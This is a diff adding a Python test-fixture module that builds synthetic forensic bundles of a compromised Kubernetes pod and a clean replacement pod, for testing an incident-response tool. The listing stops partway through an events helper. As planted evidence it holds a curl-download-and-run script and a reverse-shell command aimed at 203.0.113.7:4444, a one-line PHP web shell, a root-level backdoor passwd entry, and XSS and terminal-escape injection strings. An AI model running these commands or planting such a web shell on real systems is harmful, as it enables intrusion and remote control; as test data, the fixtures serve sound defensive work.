@@ -1,0 +1,1041 @@
+"""Synthetic bundles for replay tests (and for samples/bundles/make_samples.py).
+
+`build_bundle(directory, spec)` writes a sealed bundle through the real BundleWriter, laid out as
+ir/records describes (containers/<name>/processes.jsonl, ..., k8s/*.json, alert.json), with the
+writer's clock frozen so the same spec gives the same bytes. `compromised_spec()` plants the facts
+the replay views must show; `clean_spec()` is its clean replacement for `ir bundle diff`.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import hashlib
+import io
+import tarfile
+import types
+from collections.abc import Callable, Iterable, Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+from click.testing import CliRunner
+
+import ir.bundle.custody as custody_module
+import ir.bundle.writer as writer_module
+from ir.bundle.custody import FileCustody, append_record
+from ir.bundle.manifest import CollectorEntry
+from ir.bundle.writer import BundleWriter, SealedBundle
+from ir.cli.main import main
+from ir.clock import rfc3339
+from ir.errors import ExitCode
+from ir.records import FileChange, LogLine, ProcessRecord, Record, SocketRecord
+from ir.store.local import custody_path
+
+CAPTURE_START = datetime(2025, 3, 14, 10, 30, 0, tzinfo=UTC)
+
+
+def t(hms: str, day: str = "2025-03-14") -> str:
+    """RFC 3339 UTC as ir writes it, from 'HH:MM:SS[.ffffff]' on the scenario's day."""
+    dt = datetime.fromisoformat(f"{day}T{hms}+00:00")
+    return rfc3339(dt) or ""
+
+
+def epoch(hms: str, day: str = "2025-03-14") -> float:
+    return datetime.fromisoformat(f"{day}T{hms}+00:00").timestamp()
+
+
+@dataclass
+class ContainerSpec:
+    processes: list[ProcessRecord] = field(default_factory=list)
+    sockets: list[SocketRecord] = field(default_factory=list)
+    changes: list[FileChange] = field(default_factory=list)
+    files: dict[str, bytes | tuple[str, str]] = field(
+        default_factory=dict
+    )  # path -> content | ("symlink", target)
+    logs: dict[str, list[LogLine]] = field(default_factory=dict)  # instance -> lines
+    deleted_exes: dict[str, bytes] = field(default_factory=dict)  # sha256 -> binary
+    inspect: dict[str, Any] | None = None
+    image: dict[str, Any] | None = None
+    network: dict[str, Any] | None = None
+
+
+@dataclass
+class BundleSpec:
+    bundle_id: str
+    case_id: str
+    target: dict[str, Any]
+    containers: dict[str, ContainerSpec]
+    k8s: dict[str, Any] = field(
+        default_factory=dict
+    )  # what -> document (k8s/<what>.json, kind k8s-<what>)
+    alert: dict[str, Any] | None = None
+    reason: str | None = None
+    operator: str = "alice"
+    capture_start: datetime = CAPTURE_START
+    actions: list[tuple[str, str, dict[str, Any]]] = field(
+        default_factory=list
+    )  # action, target, detail
+    failed_collectors: list[tuple[str, str | None, str]] = field(
+        default_factory=list
+    )  # name, container, error
+    custody: list[tuple[str, dict[str, Any]]] = field(
+        default_factory=list
+    )  # action, detail (after "created")
+
+
+@contextlib.contextmanager
+def frozen_clock(start: datetime) -> Iterator[Callable[[], datetime]]:
+    """The writer's and the custody log's clocks, frozen at `start` + 100 ms per reading, so a
+    spec always produces the same bytes (samples are committed)."""
+    ticks = [0]
+
+    def now() -> datetime:
+        ticks[0] += 1
+        return start + timedelta(milliseconds=100 * ticks[0])
+
+    saved = (writer_module.utcnow, writer_module.time, custody_module.utcnow, custody_module.socket)
+    writer_module.utcnow = now  # type: ignore[assignment]
+    writer_module.time = types.SimpleNamespace(time=lambda: start.timestamp())  # type: ignore[assignment]
+    custody_module.utcnow = now  # type: ignore[assignment]
+    custody_module.socket = types.SimpleNamespace(gethostname=lambda: "ir-workstation")  # type: ignore[assignment]
+    try:
+        yield now
+    finally:
+        writer_module.utcnow, writer_module.time, custody_module.utcnow, custody_module.socket = (
+            saved  # type: ignore[assignment]
+        )
+
+
+def jsonl(records: Iterable[Record]) -> bytes:
+    return b"".join(r.to_line() for r in records)
+
+
+def tar_of(files: dict[str, bytes | tuple[str, str]], mtime: float) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for path, content in files.items():
+            info = tarfile.TarInfo(path.lstrip("/"))
+            info.mtime = int(mtime)
+            if isinstance(content, tuple):
+                info.type, info.linkname = tarfile.SYMTYPE, content[1]
+                tar.addfile(info)
+            else:
+                info.size, info.mode = len(content), 0o755
+                tar.addfile(info, io.BytesIO(content))
+    return buf.getvalue()
+
+
+def build_bundle(directory: Path, spec: BundleSpec, *, signer: Any = None) -> SealedBundle:
+    """Write `spec` as a sealed bundle (plus its custody log) in `directory`."""
+    with frozen_clock(spec.capture_start) as now:
+        writer = BundleWriter(
+            directory,
+            case_id=spec.case_id,
+            target=spec.target,
+            operator=spec.operator,
+            host={"hostname": "ir-workstation", "platform": "Linux"},
+            tool={"name": "ir", "version": "0.1.0"},
+            reason=spec.reason,
+            bundle_id=spec.bundle_id,
+            threads=1,
+        )
+        for action, target, detail in spec.actions:
+            writer.record_action(action, target, **detail)
+        for name, c in spec.containers.items():
+            _write_container(writer, name, c, spec.capture_start, now)
+        if spec.k8s:
+            made = []
+            for what, doc in spec.k8s.items():
+                writer.add_json(
+                    f"k8s/{what}.json", doc, kind=f"k8s-{what}", collector="k8s-context"
+                )
+                made.append(f"k8s/{what}.json")
+            writer.record_collector(
+                CollectorEntry("k8s-context", "ok", rfc3339(now()), rfc3339(now()), artifacts=made)
+            )
+        if spec.alert is not None:
+            writer.add_json("alert.json", spec.alert, kind="alert", collector="alert")
+            writer.record_collector(
+                CollectorEntry(
+                    "alert", "ok", rfc3339(now()), rfc3339(now()), artifacts=["alert.json"]
+                )
+            )
+        for name, container, error in spec.failed_collectors:
+            writer.record_collector(
+                CollectorEntry(
+                    name, "failed", rfc3339(now()), rfc3339(now()), error=error, container=container
+                )
+            )
+        sealed = writer.seal(signer)
+        log = FileCustody(custody_path(sealed.path))
+        append_record(
+            log,
+            action="created",
+            bundle_id=spec.bundle_id,
+            bundle_digest=sealed.root_digest,
+            actor=spec.operator,
+            detail={"location": sealed.path.name, "outcome": sealed.manifest.outcome},
+        )
+        for action, detail in spec.custody:
+            append_record(
+                log,
+                action=action,
+                bundle_id=spec.bundle_id,
+                bundle_digest=sealed.root_digest,
+                actor=spec.operator,
+                detail=detail,
+            )
+    return sealed
+
+
+def _write_container(
+    writer: BundleWriter, name: str, c: ContainerSpec, start: datetime, now: Callable[[], datetime]
+) -> None:
+    scope = f"containers/{name}"
+    began = rfc3339(now())
+    made: list[str] = []
+
+    def add(
+        artifact: str, data: bytes, kind: str, media_type: str, collector: str, **meta: Any
+    ) -> None:
+        writer.add_bytes(
+            f"{scope}/{artifact}",
+            data,
+            kind=kind,
+            media_type=media_type,
+            collector=collector,
+            container=name,
+            meta=meta,
+        )
+        made.append(f"{scope}/{artifact}")
+
+    if c.inspect is not None:
+        writer.add_json(
+            f"{scope}/inspect.json",
+            c.inspect,
+            kind="container-inspect",
+            collector="metadata",
+            container=name,
+        )
+        made.append(f"{scope}/inspect.json")
+    if c.image is not None:
+        writer.add_json(
+            f"{scope}/image.json",
+            c.image,
+            kind="image-inspect",
+            collector="metadata",
+            container=name,
+        )
+        made.append(f"{scope}/image.json")
+    add("processes.jsonl", jsonl(c.processes), "processes", ProcessRecord.media_type(), "processes")
+    add("sockets.jsonl", jsonl(c.sockets), "sockets", SocketRecord.media_type(), "network")
+    if c.network is not None:
+        writer.add_json(
+            f"{scope}/network.json", c.network, kind="network", collector="network", container=name
+        )
+        made.append(f"{scope}/network.json")
+    add("fs-changes.jsonl", jsonl(c.changes), "fs-changes", FileChange.media_type(), "fs-diff")
+    add(
+        "fs-files.tar",
+        tar_of(c.files, start.timestamp()),
+        "fs-files",
+        "application/x-tar",
+        "fs-diff",
+    )
+    if c.deleted_exes:
+        exes: dict[str, bytes | tuple[str, str]] = dict(c.deleted_exes)
+        add(
+            "deleted-exes.tar",
+            tar_of(exes, start.timestamp()),
+            "deleted-exes",
+            "application/x-tar",
+            "processes",
+        )
+    for instance, lines in c.logs.items():
+        add(
+            f"logs-{instance}.jsonl",
+            jsonl(lines),
+            "logs",
+            LogLine.media_type(),
+            "logs",
+            instance=instance,
+        )
+    writer.record_collector(
+        CollectorEntry("container", "ok", began, rfc3339(now()), artifacts=made, container=name)
+    )
+
+
+def change(
+    path: str,
+    kind: str,
+    *,
+    type: str = "file",
+    content: bytes | None = None,
+    mode: str | None = "0644",
+    mtime: str | None = None,
+    ctime: str | None = None,
+    link_target: str | None = None,
+    skipped: str | None = None,
+) -> FileChange:
+    """A FileChange; `content` given means captured (sha256 and size from it)."""
+    executable = type == "file" and mode is not None and int(mode, 8) & 0o111 != 0
+    return FileChange(
+        path=path,
+        change=kind,
+        type=type,
+        size=len(content) if content is not None else None,
+        mode=mode,
+        uid=0,
+        gid=0,
+        mtime=mtime,
+        ctime=ctime or mtime,
+        link_target=link_target,
+        sha256=hashlib.sha256(content).hexdigest() if content is not None else None,
+        captured=content is not None or link_target is not None,
+        skipped=skipped,
+        executable=executable,
+    )
+
+
+def log(
+    time: str | None,
+    message: str,
+    stream: str = "stdout",
+    container: str = "web",
+    instance: str = "current",
+) -> LogLine:
+    return LogLine(
+        time=time, stream=stream, message=message, container=container, instance=instance
+    )
+
+
+# -- the compromised pod -----------------------------------------------------------------------
+
+KWORKER = b"\x7fELF\x02\x01\x01" + b"reverse-shell-to-203.0.113.7:4444" * 4
+SYSUPDATE = b"\x7fELF\x02\x01\x01" + b"backdoor" * 16
+MINER = b"\x7fELF\x02\x01\x01" + b"xmrig" * 20
+PAYLOAD = b"#!/bin/sh\ncurl -s http://203.0.113.7/k -o /tmp/.kworker && chmod +x /tmp/.kworker && /tmp/.kworker -c 203.0.113.7:4444 &\nrm -f /tmp/.kworker\n"
+PASSWD = b"root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsysupdate:x:0:0::/root:/bin/sh\n"
+WEBSHELL = b"<?php system($_GET['cmd']); ?>\n"
+NGINX_PID = b"1\n"
+HOSTILE_PATH = "/tmp/evil\x1b[31mname\nline2"
+XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
+ANSI = "\x1b[2J\x1b[31mALL CLEAR\x1b[0m"
+
+# What the views must show (tests assert every one).
+PLANTED = {
+    "deleted_exe": {"pid": 5133, "exe": "/tmp/.kworker"},
+    "late_processes": [5120, 5133, 5140],
+    "undeclared_listener": 31337,
+    "declared_listeners": [80, 9090],
+    "outbound": ("203.0.113.7", 4444),
+    "bin_dir_files": ["/usr/bin/.sysupdate", "/etc/passwd", "/usr/local/bin/helper"],
+    "temp_executables": ["/tmp/payload.sh", "/dev/shm/.x/miner"],
+    "alert_time": "2025-03-14T09:12:03.512000Z",
+}
+# Lines of the agent's previous instance carry no runtime time: the time in their text is used.
+# (message, format, expected UTC) -- five formats and more.
+MESSAGE_TIMES = [
+    (
+        "I0314 08:10:00.250000       1 main.go:20] agent v1.2 starting",
+        "klog",
+        "2025-03-14T08:10:00.250000Z",
+    ),
+    (
+        '2025-03-14T09:20:00.500+01:00 level=info msg="config loaded"',
+        "rfc3339",
+        "2025-03-14T08:20:00.500000Z",
+    ),
+    ("<30>Mar 14 08:25:00 web-7f9c agent[1]: memory high", "syslog", "2025-03-14T08:25:00.000000Z"),
+    (
+        '{"level":"info","ts":' + str(epoch("08:27:30.750")) + ',"msg":"flush"}',
+        "epoch",
+        "2025-03-14T08:27:30.750000Z",
+    ),
+    (
+        '{"t":' + str(int(epoch("08:28:00") * 1000)) + ',"msg":"heartbeat"}',
+        "epoch",
+        "2025-03-14T08:28:00.000000Z",
+    ),
+    (
+        '10.0.0.9 - - [14/Mar/2025:00:29:59 -0800] "POST /metrics HTTP/1.1" 204 0',
+        "clf",
+        "2025-03-14T08:29:59.000000Z",
+    ),
+    ("2025/03/14 08:29:59.900000 go: shutting down on OOM", "golog", "2025-03-14T08:29:59.900000Z"),
+]
+
+
+def compromised_spec() -> BundleSpec:
+    web = ContainerSpec(
+        inspect={
+            "Id": "3f2a9c0d" * 8,
+            "Name": "/k8s_web_web-7f9c",
+            "Created": t("08:00:03.200"),
+            "Image": "sha256:" + "ab" * 32,
+            "State": {
+                "Status": "running",
+                "StartedAt": "2025-03-14T08:00:05.123456789Z",
+                "FinishedAt": "0001-01-01T00:00:00Z",
+                "Pid": 4101,
+            },
+            "Config": {"Image": "registry.example/shop/web:1.4.2", "ExposedPorts": {"80/tcp": {}}},
+        },
+        image={
+            "Id": "sha256:" + "ab" * 32,
+            "RepoTags": ["registry.example/shop/web:1.4.2"],
+            "Created": "2025-02-20T11:00:00.000000000Z",
+        },
+        network={
+            "interfaces": [
+                {"name": "eth0", "addresses": ["10.244.1.17/24"]},
+                {"name": "lo", "addresses": ["127.0.0.1/8"]},
+            ],
+            "routes": [],
+            "resolv_conf": "nameserver 10.96.0.10\n",
+            "hosts": "",
+            "netns": "net:[4026532290]",
+        },
+        processes=[
+            ProcessRecord(
+                pid=4101,
+                ppid=4080,
+                ns_pid=1,
+                uid=0,
+                user="root",
+                name="nginx",
+                cmdline=["nginx: master process nginx -g daemon off;"],
+                exe="/usr/sbin/nginx",
+                exe_sha256="1" * 64,
+                start_time=t("08:00:05.130"),
+                state="S",
+                fds=["socket:[70001]"],
+            ),
+            ProcessRecord(
+                pid=4130,
+                ppid=4101,
+                ns_pid=29,
+                uid=33,
+                user="www-data",
+                name="nginx",
+                cmdline=["nginx: worker process"],
+                exe="/usr/sbin/nginx",
+                exe_sha256="1" * 64,
+                start_time=t("08:00:05.140"),
+                state="S",
+                fds=["socket:[70010]"],
+            ),
+            ProcessRecord(
+                pid=5120,
+                ppid=4130,
+                ns_pid=31,
+                uid=33,
+                user="www-data",
+                name="sh",
+                cmdline=["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
+                exe="/bin/dash",
+                exe_sha256="2" * 64,
+                start_time=t("09:12:03.400"),
+                state="S",
+            ),
+            ProcessRecord(
+                pid=5133,
+                ppid=5120,
+                ns_pid=35,
+                uid=33,
+                user="www-data",
+                name=".kworker",
+                cmdline=["/tmp/.kworker", "-c", "203.0.113.7:4444"],
+                exe="/tmp/.kworker (deleted)",
+                exe_sha256=hashlib.sha256(KWORKER).hexdigest(),
+                exe_deleted=True,
+                start_time=t("09:12:07.010"),
+                state="S",
+                fds=["socket:[88001]", "socket:[88002]"],
+            ),
+            ProcessRecord(
+                pid=5140,
+                ppid=5133,
+                ns_pid=40,
+                uid=33,
+                user="www-data",
+                name="miner",
+                cmdline=["/dev/shm/.x/miner", "--donate-level", "0"],
+                exe="/dev/shm/.x/miner",
+                exe_sha256=hashlib.sha256(MINER).hexdigest(),
+                start_time=t("09:14:00.000"),
+                state="R",
+            ),
+        ],
+        sockets=[
+            SocketRecord("tcp", "0.0.0.0", 80, "0.0.0.0", 0, "LISTEN", 70001, 0, 4101, "nginx"),
+            SocketRecord(
+                "tcp", "0.0.0.0", 31337, "0.0.0.0", 0, "LISTEN", 88002, 33
+            ),  # owner via fds
+            SocketRecord(
+                "tcp",
+                "10.244.1.17",
+                80,
+                "10.244.0.5",
+                51234,
+                "ESTABLISHED",
+                70010,
+                33,
+                4130,
+                "nginx",
+            ),
+            SocketRecord(
+                "tcp", "10.244.1.17", 40112, "203.0.113.7", 4444, "ESTABLISHED", 88001, 33
+            ),
+            SocketRecord(
+                "tcp",
+                "127.0.0.1",
+                45678,
+                "127.0.0.1",
+                80,
+                "ESTABLISHED",
+                90001,
+                1000,
+                4200,
+                "agent",
+            ),
+            SocketRecord(
+                "tcp", "127.0.0.1", 80, "127.0.0.1", 45678, "ESTABLISHED", 90002, 33, 4130, "nginx"
+            ),
+            SocketRecord("tcp6", "::", 9090, "::", 0, "LISTEN", 90003, 1000, 4200, "agent"),
+            SocketRecord(
+                "unix",
+                state="LISTEN",
+                inode=70020,
+                pid=4101,
+                process="nginx",
+                path="/run/nginx.sock",
+            ),
+        ],
+        changes=[
+            change("/run/nginx.pid", "added", content=NGINX_PID, mtime=t("08:00:05.131")),
+            change(
+                "/var/cache/nginx/client_temp",
+                "added",
+                type="dir",
+                mode="0700",
+                mtime=t("08:00:05.132"),
+            ),
+            change(
+                "/tmp/payload.sh", "added", content=PAYLOAD, mode="0755", mtime=t("09:12:05.000")
+            ),
+            change(
+                "/usr/bin/.sysupdate",
+                "added",
+                content=SYSUPDATE,
+                mode="0755",
+                mtime=t("12:00:00", "2019-06-01"),
+                ctime=t("09:13:00.000"),
+            ),
+            change(
+                "/usr/local/bin/helper",
+                "added",
+                type="symlink",
+                mode="0777",
+                link_target="/dev/shm/.x/miner",
+                mtime=t("09:13:05.000"),
+            ),
+            change("/etc/passwd", "changed", content=PASSWD, mtime=t("09:13:30.000")),
+            change("/var/www/html/shell.php", "added", content=WEBSHELL, mtime=t("09:11:50.000")),
+            change("/dev/shm/.x", "added", type="dir", mode="0755", mtime=t("09:13:58.000")),
+            change(
+                "/dev/shm/.x/miner", "added", content=MINER, mode="0755", mtime=t("09:13:58.500")
+            ),
+            change("/var/log/nginx/access.log", "deleted", mode=None),
+            change(HOSTILE_PATH, "added", content=b"x", mtime=t("09:14:30.000")),
+            change(
+                "/var/lib/big.db",
+                "added",
+                mode="0644",
+                mtime=t("09:15:00.000"),
+                skipped="over --max-file-size",
+            ),
+        ],
+        deleted_exes={hashlib.sha256(KWORKER).hexdigest(): KWORKER},
+        files={
+            "/run/nginx.pid": NGINX_PID,
+            "/tmp/payload.sh": PAYLOAD,
+            "/usr/bin/.sysupdate": SYSUPDATE,
+            "/usr/local/bin/helper": ("symlink", "/dev/shm/.x/miner"),
+            "/etc/passwd": PASSWD,
+            "/var/www/html/shell.php": WEBSHELL,
+            "/dev/shm/.x/miner": MINER,
+            HOSTILE_PATH: b"x",
+        },
+        logs={
+            "current": [
+                log(
+                    t("08:00:05.200"),
+                    "2025/03/14 08:00:05 [notice] 1#1: start worker processes",
+                    "stderr",
+                ),
+                log(
+                    t("09:11:50.100"),
+                    '10.244.0.5 - - [14/Mar/2025:09:11:50 +0000] "POST /upload.php HTTP/1.1" 201 12 "-" "python-requests/2.31"',
+                ),
+                log(
+                    t("09:11:58.300"),
+                    '10.244.0.5 - - [14/Mar/2025:09:11:58 +0000] "GET /shell.php?cmd=id HTTP/1.1" 200 54 "-" "curl/8.5"',
+                ),
+                log(
+                    t("09:12:01.700"),
+                    "2025/03/14 09:12:01 [error] 29#29: *7 upstream timed out (110: Connection timed out)",
+                    "stderr",
+                ),
+                log(
+                    t("09:12:03.300"),
+                    '10.244.0.5 - - [14/Mar/2025:09:12:03 +0000] "GET /shell.php?cmd=curl%20-s%20http://203.0.113.7/x|sh HTTP/1.1" 200 0 "-" "curl/8.5"',
+                ),
+                log(t("09:12:09.000"), f"GET /search?q={XSS} 404"),
+                log(t("09:12:10.000"), f"status: {ANSI}"),
+            ]
+        },
+    )
+    agent = ContainerSpec(
+        inspect={
+            "Id": "9e8d7c6b" * 8,
+            "Name": "/k8s_agent_web-7f9c",
+            "Created": t("08:00:04.000"),
+            "State": {"Status": "running", "StartedAt": "2025-03-14T08:30:02.000000000Z"},
+            "Config": {"Image": "registry.example/ops/agent:2.0"},
+        },
+        processes=[
+            ProcessRecord(
+                pid=4200,
+                ppid=4190,
+                ns_pid=1,
+                uid=1000,
+                user="agent",
+                name="agent",
+                cmdline=["/usr/local/bin/agent", "--listen=:9090"],
+                exe="/usr/local/bin/agent",
+                exe_sha256="3" * 64,
+                start_time=t("08:30:02.010"),
+                fds=["socket:[90003]"],
+            )
+        ],
+        sockets=[  # the same network namespace as web: the same sockets, seen again
+            SocketRecord("tcp", "0.0.0.0", 31337, "0.0.0.0", 0, "LISTEN", 88002, 33),
+            SocketRecord("tcp6", "::", 9090, "::", 0, "LISTEN", 90003, 1000, 4200, "agent"),
+        ],
+        logs={
+            "current": [
+                log(
+                    t("08:30:02.100"),
+                    "I0314 08:30:02.100000       1 main.go:20] agent v1.2 starting",
+                    "stderr",
+                    "agent",
+                ),
+                log(
+                    t("09:12:04.250"),
+                    "I0314 09:12:04.250000       1 watcher.go:88] new process pid=5120 comm=sh",
+                    "stderr",
+                    "agent",
+                ),
+                log(
+                    t("09:12:07.600"),
+                    '{"level":"warn","ts":'
+                    + str(epoch("09:12:07.500"))
+                    + ',"msg":"outbound connection","dst":"203.0.113.7:4444"}',
+                    container="agent",
+                ),
+                log(
+                    t("09:13:31.000"),
+                    "<86>Mar 14 09:13:31 web-7f9c useradd[88]: new user: name=sysupdate, UID=0",
+                    container="agent",
+                ),
+                log(
+                    t("09:14:01.300"),
+                    '2025-03-14T10:14:01.250+01:00 level=warn msg="cpu usage 398%"',
+                    container="agent",
+                ),
+            ],
+            "previous": [
+                log(None, m, container="agent", instance="previous") for m, _, _ in MESSAGE_TIMES
+            ]
+            + [log(None, "a line with no time at all", container="agent", instance="previous")],
+        },
+    )
+    pod = _pod("web-7f9c", "10.244.1.17", restarts=1)
+    return BundleSpec(
+        bundle_id="5d0c1b2a-7e3f-4a9b-8c6d-0f1e2d3c4b5a",
+        case_id="INC-42",
+        target={
+            "kind": "pod",
+            "namespace": "shop",
+            "name": "web-7f9c",
+            "uid": "6b1f0e44-1c2d-4e5f-9a8b-7c6d5e4f3a2b",
+        },
+        reason="falco: Terminal shell in container",
+        containers={"web": web, "agent": agent},
+        k8s={
+            "pod": pod,
+            "events": _events("web-7f9c", suspicious=True),
+            "owners": _owners(),
+            "node": {
+                "metadata": {"name": "node-1"},
+                "status": {"nodeInfo": {"kubeletVersion": "v1.35.4"}},
+            },
+            "services": [
+                {
+                    "metadata": {"name": "web", "namespace": "shop"},
+                    "spec": {"ports": [{"port": 80}]},
+                }
+            ],
+            "networkpolicies": [],
+            "serviceaccount": {"metadata": {"name": "default", "namespace": "shop"}},
+            "rbac": {"roles": [], "rolebindings": []},
+        },
+        alert={
+            "source": "falco",
+            "rule": "Terminal shell in container",
+            "priority": "Warning",
+            "time": "2025-03-14T09:12:03.512000Z",
+            "target": {
+                "namespace": "shop",
+                "pod": "web-7f9c",
+                "container": "web",
+                "node": "node-1",
+            },
+            "message": "A shell was spawned in a container (user=www-data shell=sh parent=nginx cmdline=sh -c curl -s http://203.0.113.7/x | sh)",
+            "raw": {
+                "rule": "Terminal shell in container",
+                "priority": "Warning",
+                "time": "2025-03-14T09:12:03.512345678Z",
+                "output": "09:12:03.512345678: Warning Shell spawned (user=www-data shell=sh parent=nginx)",
+                "output_fields": {
+                    "k8s.pod.name": "web-7f9c",
+                    "k8s.ns.name": "shop",
+                    "container.id": "3f2a9c0d3f2a",
+                },
+            },
+        },
+        actions=[
+            ("annotate", "pod shop/web-7f9c", {"annotation": "ir.example/capture=INC-42"}),
+            ("docker-api", "container web", {"call": "GET /containers/3f2a9c0d/logs?timestamps=1"}),
+        ],
+        failed_collectors=[
+            ("image-history", "agent", "ConnectionError: registry.example unreachable")
+        ],
+        custody=[
+            ("respond", {"action": "quarantine", "networkpolicy": "ir-quarantine-web-7f9c"}),
+            ("respond", {"action": "replace", "new_pod": "web-8d2e"}),
+        ],
+    )
+
+
+def clean_spec() -> BundleSpec:
+    """The replacement pod, captured a little later: same image, nothing planted."""
+    start = CAPTURE_START + timedelta(minutes=15)
+    web = ContainerSpec(
+        inspect={
+            "Id": "7a6b5c4d" * 8,
+            "Name": "/k8s_web_web-8d2e",
+            "Created": t("10:31:00.000"),
+            "State": {"Status": "running", "StartedAt": "2025-03-14T10:31:02.000000000Z"},
+            "Config": {"Image": "registry.example/shop/web:1.4.2", "ExposedPorts": {"80/tcp": {}}},
+        },
+        processes=[
+            ProcessRecord(
+                pid=6101,
+                ppid=6080,
+                ns_pid=1,
+                uid=0,
+                user="root",
+                name="nginx",
+                cmdline=["nginx: master process nginx -g daemon off;"],
+                exe="/usr/sbin/nginx",
+                exe_sha256="1" * 64,
+                start_time=t("10:31:02.010"),
+            ),
+            ProcessRecord(
+                pid=6130,
+                ppid=6101,
+                ns_pid=29,
+                uid=33,
+                user="www-data",
+                name="nginx",
+                cmdline=["nginx: worker process"],
+                exe="/usr/sbin/nginx",
+                exe_sha256="1" * 64,
+                start_time=t("10:31:02.020"),
+            ),
+        ],
+        sockets=[
+            SocketRecord("tcp", "0.0.0.0", 80, "0.0.0.0", 0, "LISTEN", 71001, 0, 6101, "nginx"),
+            SocketRecord(
+                "tcp",
+                "10.244.2.9",
+                80,
+                "10.244.0.5",
+                53311,
+                "ESTABLISHED",
+                71010,
+                33,
+                6130,
+                "nginx",
+            ),
+            SocketRecord("tcp6", "::", 9090, "::", 0, "LISTEN", 91003, 1000, 6200, "agent"),
+        ],
+        changes=[
+            change("/run/nginx.pid", "added", content=NGINX_PID, mtime=t("10:31:02.011")),
+            change(
+                "/var/cache/nginx/client_temp",
+                "added",
+                type="dir",
+                mode="0700",
+                mtime=t("10:31:02.012"),
+            ),
+            change("/var/log/nginx/access.log", "changed", mode="0640", mtime=t("10:44:00.000")),
+        ],
+        files={"/run/nginx.pid": NGINX_PID},
+        logs={
+            "current": [
+                log(
+                    t("10:31:02.100"),
+                    "2025/03/14 10:31:02 [notice] 1#1: start worker processes",
+                    "stderr",
+                ),
+                log(
+                    t("10:40:00.000"),
+                    '10.244.0.5 - - [14/Mar/2025:10:40:00 +0000] "GET / HTTP/1.1" 200 612 "-" "kube-probe/1.35"',
+                ),
+            ]
+        },
+    )
+    agent = ContainerSpec(
+        inspect={
+            "Id": "1a2b3c4d" * 8,
+            "Name": "/k8s_agent_web-8d2e",
+            "Created": t("10:31:00.500"),
+            "State": {"Status": "running", "StartedAt": "2025-03-14T10:31:03.000000000Z"},
+            "Config": {"Image": "registry.example/ops/agent:2.0"},
+        },
+        processes=[
+            ProcessRecord(
+                pid=6200,
+                ppid=6190,
+                ns_pid=1,
+                uid=1000,
+                user="agent",
+                name="agent",
+                cmdline=["/usr/local/bin/agent", "--listen=:9090"],
+                exe="/usr/local/bin/agent",
+                exe_sha256="3" * 64,
+                start_time=t("10:31:03.010"),
+            )
+        ],
+        sockets=[SocketRecord("tcp6", "::", 9090, "::", 0, "LISTEN", 91003, 1000, 6200, "agent")],
+        logs={
+            "current": [
+                log(
+                    t("10:31:03.100"),
+                    "I0314 10:31:03.100000       1 main.go:20] agent v1.2 starting",
+                    "stderr",
+                    "agent",
+                )
+            ]
+        },
+    )
+    return BundleSpec(
+        bundle_id="8e7d6c5b-4a39-4281-9f0e-1d2c3b4a5968",
+        case_id="INC-42",
+        target={
+            "kind": "pod",
+            "namespace": "shop",
+            "name": "web-8d2e",
+            "uid": "0c9b8a7f-6e5d-4c3b-2a19-08f7e6d5c4b3",
+        },
+        reason="clean replacement of web-7f9c, for comparison",
+        containers={"web": web, "agent": agent},
+        k8s={
+            "pod": _pod("web-8d2e", "10.244.2.9", restarts=0, start="10:31:00"),
+            "events": _events("web-8d2e", suspicious=False, start="10:31:00"),
+        },
+        capture_start=start,
+    )
+
+
+def _pod(name: str, ip: str, *, restarts: int, start: str = "08:00:00") -> dict[str, Any]:
+    base = datetime.fromisoformat(f"2025-03-14T{start}+00:00")
+
+    def at(seconds: float) -> str:
+        return (base + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+    agent_status: dict[str, Any] = {
+        "name": "agent",
+        "image": "registry.example/ops/agent:2.0",
+        "ready": True,
+        "restartCount": restarts,
+        "state": {"running": {"startedAt": at(1802 if restarts else 3)}},
+    }
+    if restarts:
+        agent_status["lastState"] = {
+            "terminated": {
+                "exitCode": 137,
+                "reason": "OOMKilled",
+                "startedAt": at(6),
+                "finishedAt": at(1800),
+            }
+        }
+    return {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {
+            "name": name,
+            "namespace": "shop",
+            "uid": "6b1f0e44",
+            "creationTimestamp": at(0),
+            "labels": {"app": "web"},
+            "ownerReferences": [{"kind": "ReplicaSet", "name": "web-5d9c"}],
+        },
+        "spec": {
+            "nodeName": "node-1",
+            "serviceAccountName": "default",
+            "containers": [
+                {
+                    "name": "web",
+                    "image": "registry.example/shop/web:1.4.2",
+                    "ports": [{"containerPort": 80, "protocol": "TCP"}],
+                },
+                {
+                    "name": "agent",
+                    "image": "registry.example/ops/agent:2.0",
+                    "ports": [{"containerPort": 9090}],
+                },
+            ],
+        },
+        "status": {
+            "phase": "Running",
+            "podIP": ip,
+            "startTime": at(0),
+            "conditions": [{"type": "Ready", "status": "True", "lastTransitionTime": at(8)}],
+            "containerStatuses": [
+                {
+                    "name": "web",
+                    "image": "registry.example/shop/web:1.4.2",
+                    "imageID": "sha256:" + "ab" * 32,
+                    "ready": True,
+                    "restartCount": 0,
+                    "state": {"running": {"startedAt": at(5)}},
+                },
+                agent_status,
+            ],
+        },
+    }
+
+
+def _events(pod: str, *, suspicious: bool, start: str = "08:00:00") -> Any:
+    base = datetime.fromisoformat(f"2025-03-14T{start}+00:00")
+
+    def at(seconds: float) -> str:
+        return (base + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")
+
+    def event(
+        i: int,
+        reason: str,
+        message: str,
+        first: str,
+        last: str | None = None,
+        type: str = "Normal",
+        count: int = 1,
+        component: str = "kubelet",
+    ) -> dict[str, Any]:
+        return {
+            "apiVersion": "v1",
+            "kind": "Event",
+            "metadata": {"name": f"{pod}.{i:04x}", "namespace": "shop", "creationTimestamp": first},
+            "involvedObject": {"kind": "Pod", "namespace": "shop", "name": pod, "apiVersion": "v1"},
+            "reason": reason,
+            "message": message,
+            "type": type,
+            "count": count,
+            "firstTimestamp": first,
+            "lastTimestamp": last or first,
+            "eventTime": None,
+            "source": {"component": component, "host": "node-1"},
+            "reportingComponent": component,
+        }
+
+    items = [
+        event(
+            1,
+            "Scheduled",
+            f"Successfully assigned shop/{pod} to node-1",
+            at(0),
+            component="default-scheduler",
+        ),
+        event(
+            2,
